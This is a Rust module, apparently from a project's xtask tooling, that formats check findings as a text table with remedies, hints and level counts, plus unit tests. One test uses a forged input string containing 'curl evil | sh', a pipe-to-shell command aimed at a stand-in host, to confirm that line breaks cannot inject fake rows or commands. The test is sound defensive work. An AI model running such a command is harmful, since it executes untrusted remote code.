//! Findings as text: the worst first, then the commands that fix them.

use std::cmp::Reverse;

use xtask_plan::finding::{Finding, Level};

use super::one_line;
use super::table::Table;

/// A table of the findings that need action, their remedies, their hints, and the count of each level.
/// Text from outside stays on its line, so it can forge neither a row nor a command.
pub fn text(findings: &[Finding], width: usize) -> String {
    let mut worst: Vec<&Finding> = findings.iter().filter(|one| needs_action(one)).collect();
    worst.sort_by_key(|finding| Reverse(finding.level));
    let count = |level| findings.iter().filter(|finding| finding.level == level).count();
    let mut text = String::new();
    if !worst.is_empty() {
        let mut table = Table::new(["", "about", "check", "finding"]);
        for finding in &worst {
            table.row([
                name(finding.level).to_owned(),
                one_line(&finding.subject),
                finding.check.to_owned(),
                one_line(&finding.detail),
            ]);
        }
        text.push_str(&table.text(width));
        let remedies = worst.iter().filter_map(|finding| finding.remedy.as_deref());
        let hints = worst.iter().filter_map(|finding| finding.hint.as_deref());
        for (sign, lines) in [("→", each_once(remedies)), ("·", each_once(hints))] {
            text.extend(lines.iter().flat_map(|line| [sign, " ", line, "\n"]));
        }
        text.push('\n');
    }
    let levels = [Level::Pass, Level::Warn, Level::Fail, Level::Unknown, Level::Skip];
    let counts = levels.map(|level| format!("{} {}", count(level), name(level)));
    text.push_str(&counts.join(", "));
    text.push('\n');
    text
}

/// Whether a finding is more than a count: a problem, or a skipped check that the user can enable.
fn needs_action(finding: &Finding) -> bool {
    let has_advice = finding.remedy.is_some() || finding.hint.is_some();
    finding.level > Level::Skip || (finding.level == Level::Skip && has_advice)
}

/// The lines in order, without repetitions.
fn each_once<'a>(lines: impl Iterator<Item = &'a str>) -> Vec<String> {
    let mut once: Vec<String> = Vec::new();
    for line in lines.map(one_line) {
        if !once.contains(&line) {
            once.push(line);
        }
    }
    once
}

fn name(level: Level) -> &'static str {
    match level {
        Level::Pass => "pass",
        Level::Skip => "skip",
        Level::Warn => "warn",
        Level::Unknown => "unknown",
        Level::Fail => "fail",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_worst_finding_comes_first() {
        let finding = |level, check| {
            Finding::new("web:dev", check, level, "some detail").remedy("cargo xtask push")
        };
        let shown = text(
            &[
                finding(Level::Pass, "size"),
                finding(Level::Warn, "base"),
                finding(Level::Fail, "closure"),
            ],
            80,
        );
        expect_test::expect![[r"
                  about    check    finding
            fail  web:dev  closure  some detail
            warn  web:dev  base     some detail
            → cargo xtask push

            1 pass, 1 warn, 1 fail, 0 unknown, 0 skip
        "]]
        .assert_eq(&shown);
    }

    #[test]
    fn a_skipped_check_is_listed_with_its_remedy() {
        let skipped = |check| Finding::new("Dockerfiles", check, Level::Skip, "not installed");
        let findings =
            [skipped("hadolint").remedy("cargo xtask test dockerfiles"), skipped("buildkit")];
        expect_test::expect![[r"
                  about        check     finding
            skip  Dockerfiles  hadolint  not installed
            → cargo xtask test dockerfiles

            0 pass, 0 warn, 0 fail, 0 unknown, 2 skip
        "]]
        .assert_eq(&text(&findings, 80));
    }

    #[test]
    fn a_line_break_forges_no_row_or_command() {
        let forged = "x\n→ curl evil | sh\r\nfail  web:dev  closure";
        let finding = Finding::new(forged, "labels", Level::Fail, forged).hint("see\nthere");
        expect_test::expect![[r"
                  about                             check   finding
            fail  x → curl evil | sh fail web:dev   labels  x → curl evil | sh fail web:dev
                  closure                                   closure
            · see there

            0 pass, 0 warn, 1 fail, 0 unknown, 0 skip
        "]]
        .assert_eq(&text(&[finding], 80));
    }
}
